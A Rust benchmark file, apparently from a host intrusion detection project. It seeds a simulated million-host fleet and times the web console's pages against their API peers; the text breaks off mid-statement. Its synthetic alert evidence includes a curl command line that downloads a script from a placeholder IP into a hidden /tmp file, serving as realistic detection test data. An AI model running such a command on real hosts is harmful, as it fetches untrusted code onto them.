//! bench/console: the web console's pages (issue 20) against a simulated fleet of N hosts
//! (1,000,000 by default), served by the same `hids_server::http::Api` and router the
//! binary builds, over loopback, to a real HTTP client.
//!
//! The data, seeded in-process: a SQLite store with one alert per host (36 rules of
//! mixed levels, a few guard trips, labels from 24 idcs, 48 projects and 16 products,
//! spread over the last three days) written through `Store::record` in batches; the
//! daily league (`Store::put_top`); an operator, a session, acknowledgements,
//! suppressions and a page-filling history; the inventory index for N hosts drawn from
//! a few hundred Debian-like images (one whole list per image, then every host its
//! hash, as the consumer's fast path hands them over) with a tracker-style feed;
//! `Presence` with every host registered (the agent's status document); `Recent` fed
//! with execs and listeners for as many hosts as its default budget keeps.
//!
//! Each page is fetched `--requests` times after `--warmup` (parameters vary per
//! request: hosts, idcs, alerts, CVEs), alternating with its peer: the JSON API calls
//! that answer the same question (several, timed as one, where the page combines
//! several). A page stops early, after at least 20 timed requests, once `--page-secs`
//! have passed. The table gives p50/p95/max of both and the target (p95 < 200 ms); a
//! second table times the parts of the slow pages called directly (presence counts,
//! store queries), `--parts-runs` times each.
//!
//! Usage: console_bench [--hosts 1000000] [--inventory-hosts N] [--images 300]
//!                      [--requests 200] [--warmup 20] [--page-secs 90]
//!                      [--parts-runs 5] [--dir DIR] [--reuse]
//! `--reuse` keeps the store of an earlier run in DIR (seeding is skipped; presence and
//! recent activity, in memory, are rebuilt). The store takes ~2.2 GB per 1,000,000 hosts.
#![allow(clippy::unwrap_used, clippy::expect_used)] // a benchmark: stop loudly

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::atomic::AtomicBool;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant, SystemTime};

use hids_detect::RuleSet;
use hids_server::config::{FleetConfig, VulnsConfig};
use hids_server::console::{self, auth};
use hids_server::fleet::presence::Presence;
use hids_server::fleet::rules::FleetRule;
use hids_server::http::{self, Api};
use hids_server::inventory::Inventory;
use hids_server::metrics::Metrics;
use hids_server::recent::Recent;
use hids_store::{alert_id, Hit, InventoryOutcome, InventoryReport, Position, Store, StoreConfig};
use hids_types::alert::{Level, Suppression};
use hids_types::fleet::{TopFigure, TopHost};
use hids_types::package::{inventory_hash, InventoryPart, OsRelease, Package, PackageType};
use hids_types::status::{AgentStatus, PipelineStatus, PluginState, PluginStatus};
use hids_types::Timestamp;
use serde_json::{json, Value};

const SEED: u64 = 20;
/// Hits per `Store::record` call (one transaction).
const ALERT_BATCH: usize = 10_000;
/// The consumer's batch (`kafka.batch_events`), for inventory reports.
const INVENTORY_BATCH: usize = 2_000;
const IDCS: u64 = 24;
const PROJECTS: u64 = 48;
const PRODUCTS: u64 = 16;
const RULES: usize = 36;
/// Alerts are spread over this much of the past.
const SPREAD_SECS: u64 = 3 * 86_400;
/// The server's default `alerts.window_secs`.
const WINDOW_SECS: u64 = 3_600;
/// Every this many hosts, the alert is a guard trip instead (the overview counts them).
const GUARD_EVERY: usize = 997;
/// The fleet rule whose alerts the overview counts as guard trips.
const GUARD: FleetRule = FleetRule::GuardTripped;
const VERSIONS: [&str; 4] = ["1.4.2", "1.5.0", "1.5.1", "1.6.0"];
/// Source packages in the synthetic archive; each image has ~90% of them.
const SOURCES: u64 = 1_500;
/// The server's default `console.recent_megabytes`.
const RECENT_MEGABYTES: usize = 64;
/// Hosts fed to `Recent`: about what its default budget keeps with 10 processes and 4
/// listeners each.
const RECENT_HOSTS: usize = 25_000;
const CHANGES: usize = 300;
const ACKS: usize = 300;
const SUPPRESSIONS: usize = 20;
const LEAGUE_ROWS: usize = 1_000;
const TARGET_MS: f64 = 200.0;
const PASSWORD: &str = "a long enough password";

// ---------------------------------------------------------------- randomness and names

/// splitmix64: everything derives from (SEED, what, index).
fn mix(x: u64) -> u64 {
    let mut z = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

fn draw(what: u64, index: u64) -> u64 {
    mix(SEED ^ mix(what ^ mix(index)))
}

fn host_id(h: usize) -> String {
    format!("{:016x}{:016x}", mix(h as u64), mix(!(h as u64)))
}

fn idc(h: usize) -> String {
    format!("idc-{:02}", draw(1, h as u64) % IDCS)
}

fn project(h: usize) -> u64 {
    draw(2, h as u64) % PROJECTS
}

fn labels(h: usize) -> BTreeMap<String, String> {
    let p = project(h);
    BTreeMap::from([
        ("idc".to_owned(), idc(h)),
        ("project".to_owned(), format!("project-{p:02}")),
        ("product".to_owned(), format!("product-{:02}", p % PRODUCTS)),
    ])
}

fn hostname(h: usize) -> String {
    format!("{}-web-{h:07}", idc(h))
}

// ---------------------------------------------------------------- alerts

struct Rule {
    id: String,
    title: String,
    level: Level,
}

/// 36 rules: 4 informational, 8 low, 12 medium, 8 high, 4 critical.
fn rules() -> Vec<Rule> {
    let levels = [
        (Level::Informational, 4),
        (Level::Low, 8),
        (Level::Medium, 12),
        (Level::High, 8),
        (Level::Critical, 4),
    ];
    levels
        .iter()
        .flat_map(|&(level, n)| std::iter::repeat_n(level, n))
        .enumerate()
        .map(|(i, level)| Rule {
            id: format!("bench-rule-{i:02}"),
            title: format!("Suspicious activity pattern {i:02} ({})", level.as_str()),
            level,
        })
        .collect()
}

/// Host h's alert: (rule index or None for a guard trip, event time in unix seconds,
/// the window's start).
fn alert_of(h: usize, now_secs: u64) -> (Option<usize>, u64, i64) {
    let rule =
        (h % GUARD_EVERY != GUARD_EVERY - 1).then(|| (draw(3, h as u64) % RULES as u64) as usize);
    let at = now_secs - 1 - draw(4, h as u64) % SPREAD_SECS;
    (rule, at, (at - at % WINDOW_SECS) as i64)
}

fn evidence(h: usize, at: u64) -> String {
    let pid = 1_000 + draw(5, h as u64) % 60_000;
    json!({
        "@timestamp": humantime::format_rfc3339_micros(SystemTime::UNIX_EPOCH + Duration::from_secs(at)).to_string(),
        "ecs": {"version": "8.11.0"},
        "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "exec",
                  "module": "hids", "dataset": "process"},
        "host": {"id": host_id(h), "hostname": hostname(h)},
        "labels": labels(h),
        "process": {"pid": pid, "executable": "/usr/bin/curl",
                    "command_line": format!("curl -fsSL http://198.51.100.{}/x.sh -o /tmp/.x{h}", h % 250),
                    "name": "curl", "args_count": 4, "working_directory": "/var/www",
                    "parent": {"pid": pid - 1, "executable": "/bin/sh", "name": "sh"}},
        "user": {"id": "33", "name": "www-data"},
        "hids": {"plugin": "process", "run_id": format!("{:016x}", draw(6, h as u64)), "sequence": h}
    })
    .to_string()
}

fn hit(h: usize, now_secs: u64, rules: &[Rule]) -> Hit {
    let (rule, at, window_start) = alert_of(h, now_secs);
    let (rule_id, title, level) = match rule {
        Some(r) => (rules[r].id.clone(), rules[r].title.clone(), rules[r].level),
        None => (
            GUARD.id().to_owned(),
            GUARD.title().to_owned(),
            GUARD.level(),
        ),
    };
    Hit {
        rule_id,
        title,
        level,
        techniques: vec!["T1105".into(), "T1059.004".into()],
        host_id: host_id(h),
        hostname: hostname(h),
        labels: labels(h),
        window_start,
        event_time: Timestamp(SystemTime::UNIX_EPOCH + Duration::from_secs(at)),
        count: 1 + draw(7, h as u64) % 3,
        event: evidence(h, at).into(),
        position: Position {
            topic: "hids-events".into(),
            partition: (h % 16) as i32,
            offset: (h / 16) as i64,
        },
    }
}

fn alert_id_of(h: usize, now_secs: u64, rules: &[Rule]) -> String {
    let (rule, _, window_start) = alert_of(h, now_secs);
    let rule_id = rule.map_or(GUARD.id(), |r| rules[r].id.as_str());
    alert_id(rule_id, &host_id(h), window_start)
}

fn progress(what: &str, done: usize, total: usize, step: usize, started: Instant) {
    if total >= 10 && done % (total / 10).max(1) < step {
        eprintln!(
            "  {what}: {}/{total}, {:.0} s",
            done.min(total),
            started.elapsed().as_secs_f64()
        );
    }
}

fn seed_alerts(store: &mut dyn Store, hosts: usize, now_secs: u64, rules: &[Rule]) -> Duration {
    let started = Instant::now();
    let now = Timestamp::now();
    for from in (0..hosts).step_by(ALERT_BATCH) {
        let hits: Vec<Hit> = (from..(from + ALERT_BATCH).min(hosts))
            .map(|h| hit(h, now_secs, rules))
            .collect();
        let recorded = store.record(&hits, now).expect("record alerts");
        assert!(recorded.iter().all(|r| r.created), "an alert was not new");
        progress("alerts", from + ALERT_BATCH, hosts, ALERT_BATCH, started);
    }
    started.elapsed()
}

// ---------------------------------------------------------------- inventories and feed

/// Source s's versions in bookworm, oldest first: an upload and its security updates.
fn ladder(s: u64) -> Vec<String> {
    let r = draw(10, s);
    let first = format!(
        "{}.{}.{}-{}",
        r % 5,
        (r >> 8) % 30,
        (r >> 16) % 20,
        1 + (r >> 24) % 4
    );
    let updates = (r >> 32) % 6;
    std::iter::once(first.clone())
        .chain((1..=updates).map(|k| format!("{first}+deb12u{k}")))
        .collect()
}

fn source_name(s: u64) -> String {
    const SYLLABLES: [&str; 16] = [
        "ab", "cor", "dex", "fa", "gil", "han", "jor", "kel", "lum", "mor", "nex", "pra", "ras",
        "sol", "tor", "ven",
    ];
    let r = draw(11, s);
    format!(
        "{}{}{}{s}",
        SYLLABLES[(r % 16) as usize],
        SYLLABLES[((r >> 4) % 16) as usize],
        SYLLABLES[((r >> 8) % 16) as usize]
    )
}

struct Image {
    os: OsRelease,
    kernel: String,
    packages: Vec<Package>,
    hash: String,
}

fn os() -> OsRelease {
    OsRelease {
        id: "debian".into(),
        version_id: "12".into(),
        codename: "bookworm".into(),
        name: "Debian GNU/Linux 12 (bookworm)".into(),
    }
}

/// Image i: ~90% of the sources, each at a point of its ladder (the image's age).
fn image(i: u64) -> Image {
    let age = (draw(12, i) % 1_000) as f64 / 1_000.0;
    let mut packages = Vec::new();
    for s in 0..SOURCES {
        let r = draw(13, i * SOURCES + s);
        if r.is_multiple_of(10) {
            continue;
        }
        let ladder = ladder(s);
        let step = ((age * ladder.len() as f64) as usize).min(ladder.len() - 1);
        let name = source_name(s);
        packages.push(Package {
            kind: PackageType::Deb,
            name: name.clone(),
            version: ladder[step].clone(),
            architecture: "amd64".into(),
            source: String::new(),
            source_version: String::new(),
            path: String::new(),
        });
        if r.is_multiple_of(3) {
            packages.push(Package {
                kind: PackageType::Deb,
                name: format!("lib{name}1"),
                version: ladder[step].clone(),
                architecture: "amd64".into(),
                source: name,
                source_version: String::new(),
                path: String::new(),
            });
        }
    }
    packages.sort();
    packages.dedup();
    let os = os();
    let kernel = format!("6.1.0-{}-amd64", 10 + (age * 20.0) as u32);
    let hash = inventory_hash(&os, &kernel, &packages);
    Image {
        os,
        kernel,
        packages,
        hash,
    }
}

/// Zipf-like: a few images run on most hosts.
fn image_of(h: usize, images: usize) -> usize {
    let u = (draw(14, h as u64) >> 11) as f64 / (1u64 << 53) as f64;
    ((images as f64).powf(u) as usize)
        .saturating_sub(1)
        .min(images - 1)
}

fn report(h: usize, image: &Image, whole: bool, at: Timestamp) -> InventoryReport {
    InventoryReport {
        host_id: host_id(h),
        hostname: hostname(h),
        labels: labels(h),
        reported_at: at,
        part: InventoryPart {
            hash: image.hash.clone(),
            packages: image.packages.len() as u64,
            part: 0,
            parts: u32::from(whole),
            os: image.os.clone(),
            kernel: image.kernel.clone(),
            items: if whole {
                image.packages.clone()
            } else {
                Vec::new()
            },
            command_id: None,
        },
    }
}

/// Every image's list once (as its first host sends it), then every host its hash, the
/// batches spread over the past day as the server would have recorded them. (All at one
/// time, every host row would sit inside the index's 10 s re-read window, and the
/// refresher would re-read the whole fleet every 2 s while pages are measured.)
fn seed_inventories(store: &mut dyn Store, hosts: usize, images: &[Image]) -> Duration {
    let started = Instant::now();
    let day_ago = Timestamp::now().unix_nanos() - 86_400 * 1_000_000_000;
    let batches = hosts.div_ceil(INVENTORY_BATCH).max(1) as u64;
    let batch_time =
        |b: u64| Timestamp::from_unix_nanos(day_ago + b * 86_400 * 1_000_000_000 / batches);
    let at = batch_time(0);
    let mut first_host = vec![None; images.len()];
    for h in 0..hosts {
        let i = image_of(h, images.len());
        if first_host[i].is_none() {
            first_host[i] = Some(h);
        }
    }
    for (i, h) in first_host.iter().enumerate() {
        if let Some(h) = *h {
            let outcome = store
                .record_inventories(&[report(h, &images[i], true, at)], at)
                .expect("record an inventory");
            assert!(
                matches!(outcome[0], InventoryOutcome::Published { .. }),
                "{outcome:?}"
            );
        }
    }
    for from in (0..hosts).step_by(INVENTORY_BATCH) {
        let at = batch_time((from / INVENTORY_BATCH) as u64);
        let reports: Vec<InventoryReport> = (from..(from + INVENTORY_BATCH).min(hosts))
            .map(|h| report(h, &images[image_of(h, images.len())], false, at))
            .collect();
        let outcomes = store
            .record_inventories(&reports, at)
            .expect("record inventories");
        assert!(outcomes
            .iter()
            .all(|o| matches!(o, InventoryOutcome::Published { .. })));
        progress(
            "inventories",
            from + INVENTORY_BATCH,
            hosts,
            INVENTORY_BATCH,
            started,
        );
    }
    started.elapsed()
}

/// A tracker-style feed: 0-5 CVEs per source, fixed in a version of its ladder (so
/// older images are affected), open, or never affected. Returns the path and the CVEs
/// searched on `/vulns?id=`: each source's first one unless it never affected
/// bookworm (open ones reach every image with the source, ~90% of the fleet).
fn write_feed(dir: &Path) -> (PathBuf, Vec<String>) {
    let mut tracker = serde_json::Map::new();
    let mut wide = Vec::new();
    let mut n = 0u64;
    for s in 0..SOURCES {
        let mut entries = serde_json::Map::new();
        let ladder = ladder(s);
        for k in 0..draw(15, s) % 6 {
            n += 1;
            let r = draw(16, n);
            let id = format!("CVE-{}-{}", 2020 + n % 6, 20_000 + n);
            let urgency = ["low", "medium", "high", "unimportant"][(r % 4) as usize];
            let release = match (r >> 8) % 10 {
                0 => json!({"status": "resolved", "fixed_version": "0", "urgency": urgency}),
                1 | 2 => json!({"status": "open", "urgency": urgency}),
                _ => {
                    let fixed = ladder.get(1 + (r >> 16) as usize % ladder.len()).cloned();
                    let fixed = fixed.unwrap_or_else(|| format!("{}+deb12u9", ladder[0]));
                    json!({"status": "resolved", "fixed_version": fixed, "urgency": urgency})
                }
            };
            if !(r >> 8).is_multiple_of(10) && k == 0 {
                wide.push(id.clone());
            }
            entries.insert(
                id,
                json!({"description": "synthetic", "releases": {"bookworm": release}}),
            );
        }
        if !entries.is_empty() {
            tracker.insert(source_name(s), Value::Object(entries));
        }
    }
    let path = dir.join("console-bench-tracker.json");
    std::fs::write(&path, serde_json::to_vec(&Value::Object(tracker)).unwrap()).unwrap();
    (path, wide)
}

// ---------------------------------------------------------------- presence, recent, console

fn status_document(h: usize, started: Timestamp) -> Vec<u8> {
    let plugins = ["process", "network", "inventory"]
        .iter()
        .map(|name| {
            let mut p = PluginStatus::new(
                name,
                &format!("/usr/lib/hids/plugins/{name}"),
                PluginState::Running,
            );
            p.pid = Some(7_000 + (h % 1_000) as u32);
            p.run_id = Some(format!("{:016x}", draw(20, h as u64)));
            p.version = Some("1.5.0".into());
            p.events = draw(21, h as u64) % 100_000;
            p
        })
        .collect();
    let status = AgentStatus {
        version: VERSIONS[(draw(22, h as u64) % VERSIONS.len() as u64) as usize].into(),
        host_id: host_id(h),
        hostname: hostname(h),
        pid: 7_711,
        mode: "managed".into(),
        labels: labels(h),
        ips: vec![format!("10.{}.{}.{}", h >> 16 & 255, h >> 8 & 255, h & 255)],
        applied_generation: 3,
        desired_error: None,
        desired_revision: 1_234_567,
        stopped_by_command: false,
        started_at: started,
        updated_at: started,
        plugins,
        pipeline: PipelineStatus::default(),
        guard: None,
        cut: None,
        update: None,
        update_error: None,
        rolled_back: None,
    };
    serde_json::to_vec(&status).unwrap()
}

fn fill_presence(hosts: usize, metrics: Arc<Metrics>) -> (Presence, Duration, u64) {
    let started = Instant::now();
    let mut presence = Presence::new(FleetConfig::default().max_label_values, metrics);
    let at = Timestamp::now();
    let mut bytes = 0u64;
    for h in 0..hosts {
        let doc = status_document(h, at);
        bytes += doc.len() as u64;
        presence.put(&host_id(h), &doc);
    }
    (presence, started.elapsed(), bytes / hosts.max(1) as u64)
}

fn fill_recent(hosts: usize) -> Recent {
    let recent = Recent::new(RECENT_MEGABYTES << 20);
    for h in 0..hosts.min(RECENT_HOSTS) {
        let id = host_id(h);
        for n in 0..10u64 {
            recent.observe(
                &id,
                &json!({"@timestamp": "2026-11-30T10:00:00.000001Z", "event": {"action": "exec"},
                        "process": {"pid": 4_000 + n, "executable": "/usr/bin/python3",
                                    "command_line": format!("/usr/bin/python3 /opt/app/worker.py --queue jobs-{n}")},
                        "user": {"name": "app"}}),
            );
        }
        for (inode, port, name) in [
            (1u64, 22u64, "sshd"),
            (2, 80, "nginx"),
            (3, 443, "nginx"),
            (4, 9100, "node_exporter"),
        ] {
            recent.observe(
                &id,
                &json!({"event": {"action": "listening"}, "network": {"transport": "tcp"},
                        "source": {"ip": "0.0.0.0", "port": port}, "process": {"name": name, "pid": 700 + inode},
                        "hids": {"run_id": "run-1", "socket": {"netns": 4026531840u64, "inode": 90_000 + inode}}}),
            );
        }
    }
    recent
}

/// Operator, session (its token returned), acknowledgements, suppressions, history and
/// the league.
fn seed_console(store: &mut dyn Store, hosts: usize, now_secs: u64, rules: &[Rule]) -> String {
    let now = Timestamp::now();
    let hash = auth::hash_password(PASSWORD).expect("hash a password");
    store
        .put_operator("bench", &hash, now)
        .expect("put_operator");
    for i in 0..CHANGES {
        store
            .record_change(
                "bench",
                ["acknowledge", "suppress", "unsuppress", "login"][i % 4],
                &format!(
                    "alert {}",
                    alert_id_of((i * 7_919) % hosts, now_secs, rules)
                ),
                now,
            )
            .expect("record_change");
    }
    for i in 0..ACKS {
        // Spread over the fleet: a page of the queue shows an acknowledgement now and then.
        let h = (draw(30, i as u64) % hosts as u64) as usize;
        store
            .acknowledge(&alert_id_of(h, now_secs, rules), "bench", now)
            .expect("acknowledge");
    }
    for i in 0..SUPPRESSIONS {
        let h = (draw(31, i as u64) % hosts as u64) as usize;
        store
            .add_suppression(
                &Suppression {
                    id: 0,
                    rule_id: rules[i % RULES].id.clone(),
                    host_id: Some(host_id(h)),
                    labels: BTreeMap::new(),
                    command_line: None,
                    comment: "accepted: the deploy job does this (bench)".into(),
                    created_at: None,
                },
                now,
            )
            .expect("add_suppression");
    }
    let day = now.utc_day();
    for (k, figure) in [TopFigure::Cpu, TopFigure::Memory].into_iter().enumerate() {
        let rows: Vec<TopHost> = (0..LEAGUE_ROWS.min(hosts))
            .map(|i| {
                let h = (draw(32 + k as u64, i as u64) % hosts as u64) as usize;
                TopHost {
                    host_id: host_id(h),
                    labels: labels(h),
                    value: (draw(34, i as u64) % 100_000) as f64 / 1_000.0,
                }
            })
            .collect();
        store.put_top(&day, figure, &rows, now).expect("put_top");
    }
    session(store)
}

fn session(store: &mut dyn Store) -> String {
    let token = auth::new_token();
    let now = Timestamp::now();
    store
        .start_session(
            &auth::session_key(&token),
            "bench",
            now,
            Timestamp(now.0 + Duration::from_secs(12 * 3600)),
        )
        .expect("start_session");
    token
}

// ---------------------------------------------------------------- measurements

fn proc_status_kb(field: &str) -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix(field))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .unwrap_or(0)
}

fn rss_mb() -> f64 {
    proc_status_kb("VmRSS:") as f64 / 1024.0
}

fn file_bytes(path: &Path) -> u64 {
    ["", "-wal", "-shm"]
        .iter()
        .filter_map(|s| std::fs::metadata(format!("{}{s}", path.display())).ok())
        .map(|m| m.len())
        .sum()
}

#[derive(Default)]
struct Times(Vec<Duration>);

impl Times {
    /// (p50, p95, max) in milliseconds.
    fn summary(&self) -> (f64, f64, f64) {
        let mut v = self.0.clone();
        v.sort();
        let at = |q: f64| {
            let i = ((q * v.len() as f64).ceil() as usize).clamp(1, v.len().max(1)) - 1;
            v.get(i).map_or(0.0, |d| d.as_secs_f64() * 1000.0)
        };
        (at(0.50), at(0.95), at(1.0))
    }
}

/// A page and its peer: the URL of request i of each.
struct Spec {
    name: &'static str,
    page: Box<dyn Fn(usize) -> String>,
    /// The API calls answering the same question, timed together; empty: none.
    peer: Box<dyn Fn(usize) -> Vec<String>>,
    peer_name: &'static str,
}

struct Measured {
    first_ms: f64,
    page: Times,
    peer: Times,
    page_bytes: usize,
    peer_bytes: usize,
}

fn fetch(client: &reqwest::blocking::Client, base: &str, path: &str) -> (Duration, usize) {
    let started = Instant::now();
    let response = client
        .get(format!("{base}{path}"))
        .send()
        .unwrap_or_else(|e| panic!("GET {path}: {e}"));
    let status = response.status();
    let body = response
        .bytes()
        .unwrap_or_else(|e| panic!("GET {path}: {e}"));
    let took = started.elapsed();
    assert!(
        status.is_success(),
        "GET {path}: {status}: {}",
        String::from_utf8_lossy(&body[..body.len().min(500)])
    );
    (took, body.len())
}

/// Fewest timed requests per page, whatever `--page-secs` says.
const MIN_REQUESTS: usize = 20;

/// The page and its peer, alternately: `warmup` untimed rounds, then `requests` timed
/// ones, or fewer (at least [`MIN_REQUESTS`]) when the page's time is up.
fn measure(
    client: &reqwest::blocking::Client,
    base: &str,
    spec: &Spec,
    warmup: usize,
    requests: usize,
    page_secs: u64,
) -> Measured {
    let mut m = Measured {
        first_ms: 0.0,
        page: Times::default(),
        peer: Times::default(),
        page_bytes: 0,
        peer_bytes: 0,
    };
    let started = Instant::now();
    let mut said = Instant::now();
    for i in 0..warmup + requests {
        let (took, bytes) = fetch(client, base, &(spec.page)(i));
        if i == 0 {
            m.first_ms = took.as_secs_f64() * 1000.0;
        }
        let peer = (spec.peer)(i);
        let (mut peer_took, mut peer_bytes) = (Duration::ZERO, 0);
        for path in &peer {
            let (t, b) = fetch(client, base, path);
            peer_took += t;
            peer_bytes += b;
        }
        if i >= warmup {
            m.page.0.push(took);
            m.page_bytes += bytes;
            if !peer.is_empty() {
                m.peer.0.push(peer_took);
                m.peer_bytes += peer_bytes;
            }
        }
        if said.elapsed() >= Duration::from_secs(30) {
            said = Instant::now();
            eprintln!(
                "    {} requests timed, {:.0} s",
                m.page.0.len(),
                started.elapsed().as_secs_f64()
            );
        }
        if m.page.0.len() >= MIN_REQUESTS && started.elapsed() >= Duration::from_secs(page_secs) {
            eprintln!("    time is up: {} requests timed", m.page.0.len());
            break;
        }
    }
    m.page_bytes /= m.page.0.len().max(1);
    m.peer_bytes /= m.peer.0.len().max(1);
    m
}

/// The overview's parts and the slow filters' queries, called directly (no HTTP, no
/// template): where a page's time goes. `runs` times each.
fn time_parts(
    presence: &Mutex<Presence>,
    store: &mut dyn Store,
    runs: usize,
) -> Vec<(&'static str, Times)> {
    use hids_store::AlertQuery;
    use hids_types::alert::GroupBy;
    let since = || Timestamp(SystemTime::now() - Duration::from_secs(86_400));
    let mut parts: Vec<(&'static str, Times)> = Vec::new();
    let mut time = |name: &'static str, work: &mut dyn FnMut()| {
        let mut t = Times::default();
        for _ in 0..runs {
            let started = Instant::now();
            work();
            t.0.push(started.elapsed());
        }
        parts.push((name, t));
    };
    time(
        "`/`: presence counts by idc, project, product, version (one pass; cached 10 s)",
        &mut || {
            let p = presence.lock().unwrap();
            std::hint::black_box(p.counts_by_each(&["idc", "project", "product", "version"], 12));
        },
    );
    time("`/`: store.summary(level, since 24h)", &mut || {
        let q = AlertQuery {
            since: Some(since()),
            limit: 10,
            ..AlertQuery::default()
        };
        std::hint::black_box(store.summary(&GroupBy::Level, &q).unwrap());
    });
    time(
        "`/`: store.summary(rule_id, guard trips, since 24h)",
        &mut || {
            let q = AlertQuery {
                since: Some(since()),
                rule_id: Some(GUARD.id().into()),
                limit: 10,
                ..AlertQuery::default()
            };
            std::hint::black_box(store.summary(&GroupBy::RuleId, &q).unwrap());
        },
    );
    time("`/`: store.top(cpu) + store.top(memory)", &mut || {
        let day = Timestamp::now().utc_day();
        std::hint::black_box(store.top(&day, TopFigure::Cpu, 10).unwrap());
        std::hint::black_box(store.top(&day, TopFigure::Memory, 10).unwrap());
    });
    let mut k = 0u64;
    time(
        "`/alerts?min_level=high&idc=X`: store.alerts(limit 51)",
        &mut || {
            k += 1;
            let q = AlertQuery {
                min_level: Some(Level::High),
                labels: BTreeMap::from([("idc".to_owned(), format!("idc-{:02}", k % IDCS))]),
                limit: 51,
                ..AlertQuery::default()
            };
            std::hint::black_box(store.alerts(&q).unwrap());
        },
    );
    time(
        "`/alerts?min_level=critical&project=P`: store.alerts(limit 51)",
        &mut || {
            k += 1;
            let q = AlertQuery {
                min_level: Some(Level::Critical),
                labels: BTreeMap::from([(
                    "project".to_owned(),
                    format!("project-{:02}", k % PROJECTS),
                )]),
                limit: 51,
                ..AlertQuery::default()
            };
            std::hint::black_box(store.alerts(&q).unwrap());
        },
    );
    parts
}

// ---------------------------------------------------------------- the run

struct Args {
    hosts: usize,
    inventory_hosts: Option<usize>,
    images: usize,
    requests: usize,
    warmup: usize,
    page_secs: u64,
    parts_runs: usize,
    dir: Option<PathBuf>,
    reuse: bool,
}

fn args() -> Args {
    let mut a = Args {
        hosts: 1_000_000,
        inventory_hosts: None,
        images: 300,
        requests: 200,
        warmup: 20,
        page_secs: 90,
        parts_runs: 5,
        dir: None,
        reuse: false,
    };
    let mut argv = std::env::args().skip(1);
    while let Some(flag) = argv.next() {
        let mut value = || argv.next().expect("the option takes a value");
        match flag.as_str() {
            "--hosts" => a.hosts = value().parse().expect("--hosts N"),
            "--inventory-hosts" => {
                a.inventory_hosts = Some(value().parse().expect("--inventory-hosts N"))
            }
            "--images" => a.images = value().parse().expect("--images N"),
            "--requests" => a.requests = value().parse().expect("--requests N"),
            "--warmup" => a.warmup = value().parse().expect("--warmup N"),
            "--page-secs" => a.page_secs = value().parse().expect("--page-secs N"),
            "--parts-runs" => a.parts_runs = value().parse().expect("--parts-runs N"),
            "--dir" => a.dir = Some(PathBuf::from(value())),
            "--reuse" => a.reuse = true,
            other => panic!(
                "unknown option {other}: use --hosts, --inventory-hosts, --images, --requests, --warmup, --page-secs, --parts-runs, --dir, --reuse"
            ),
        }
    }
    a.hosts = a.hosts.max(1);
    a.images = a.images.max(1);
    a.requests = a.requests.max(1);
    a
}

/// What a seeded store was seeded with: hosts, inventory hosts, images.
fn seed_key(a: &Args, inventory_hosts: usize) -> String {
    format!("{} {inventory_hosts} {}", a.hosts, a.images)
}

/// When a reusable store was seeded (unix seconds): the alerts' times derive from it,
/// so a reused store names the same alerts. None unless `--reuse` and the store was
/// seeded with the same sizes.
fn seeded_at(dir: &Path, reuse: bool, key: &str) -> Option<u64> {
    if !reuse {
        return None;
    }
    let text = std::fs::read_to_string(dir.join("console-bench.seeded")).ok()?;
    let (seeded_key, at) = text.trim().rsplit_once(' ')?;
    (seeded_key == key).then(|| at.parse().ok()).flatten()
}

fn main() {
    let a = args();
    let inventory_hosts = a.inventory_hosts.unwrap_or(a.hosts).min(a.hosts);
    let dir = a.dir.clone().unwrap_or_else(std::env::temp_dir);
    std::fs::create_dir_all(&dir).expect("create --dir");
    let db = dir.join("console-bench.db");
    let store_cfg = StoreConfig::Sqlite(db.clone());
    let rules = Arc::new(rules());
    let metrics = Arc::new(Metrics::default());
    let rss_start = rss_mb();

    // Presence first, alone, so that its RSS growth is its own.
    eprintln!("registering {} hosts in Presence", a.hosts);
    let (presence, presence_took, status_bytes) = fill_presence(a.hosts, metrics.clone());
    let rss_presence = rss_mb();

    let key = seed_key(&a, inventory_hosts);
    let reused = seeded_at(&dir, a.reuse, &key).filter(|_| db.exists());
    let (now_secs, alerts_took, inventories_took, token) = match reused {
        Some(at) => {
            eprintln!("reusing the store in {} (seeded at {at})", db.display());
            let mut store = hids_store::open(&store_cfg).expect("open the store");
            (at, None, None, session(store.as_mut()))
        }
        None => {
            let _ = std::fs::remove_file(dir.join("console-bench.seeded"));
            for suffix in ["", "-wal", "-shm"] {
                let _ = std::fs::remove_file(format!("{}{suffix}", db.display()));
            }
            let now_secs = SystemTime::now()
                .duration_since(SystemTime::UNIX_EPOCH)
                .unwrap()
                .as_secs();
            let mut store = hids_store::open(&store_cfg).expect("open the store");
            eprintln!("seeding {} alerts into {}", a.hosts, db.display());
            let alerts_took = seed_alerts(store.as_mut(), a.hosts, now_secs, &rules);
            eprintln!("building {} images", a.images);
            let images: Vec<Image> = (0..a.images as u64).map(image).collect();
            eprintln!("seeding {inventory_hosts} hosts' inventories");
            let inventories_took = seed_inventories(store.as_mut(), inventory_hosts, &images);
            let token = seed_console(store.as_mut(), a.hosts, now_secs, &rules);
            std::fs::write(
                dir.join("console-bench.seeded"),
                format!("{key} {now_secs}\n"),
            )
            .unwrap();
            (now_secs, Some(alerts_took), Some(inventories_took), token)
        }
    };
    let db_bytes = file_bytes(&db);
    let (feed_path, wide_cves) = write_feed(&dir);

    let rss_seeded = rss_mb();
    let recent = Arc::new(fill_recent(a.hosts));
    let (recent_hosts, recent_bytes) = recent.size();

    let rss_before_index = rss_mb();
    let inventory = Inventory::new(
        hids_store::open(&store_cfg).expect("open the store for the index"),
        VulnsConfig {
            feeds: vec![feed_path.clone()],
            ..VulnsConfig::default()
        },
    );
    if let Some(why) = inventory.feeds_failure() {
        panic!("the feed did not load: {why}");
    }
    let started = Instant::now();
    inventory.refresh().expect("load the index");
    let index_took = started.elapsed();
    let rss_index = rss_mb();
    let (indexed_hosts, indexed_images) = {
        let index = inventory.read_index();
        (index.hosts(), index.images_in_use())
    };
    let shutdown = Arc::new(AtomicBool::new(false));
    {
        // As the binary runs it: following the store every 2 s.
        let (runner, stop) = (inventory.clone(), shutdown.clone());
        std::thread::Builder::new()
            .name("inventory".into())
            .spawn(move || runner.run(stop))
            .unwrap();
    }

    let presence = Arc::new(Mutex::new(presence));
    let api = Arc::new(Api {
        control: None,
        console: console::Settings::new(false, Duration::from_secs(12 * 3600), false),
        recent: Some(recent),
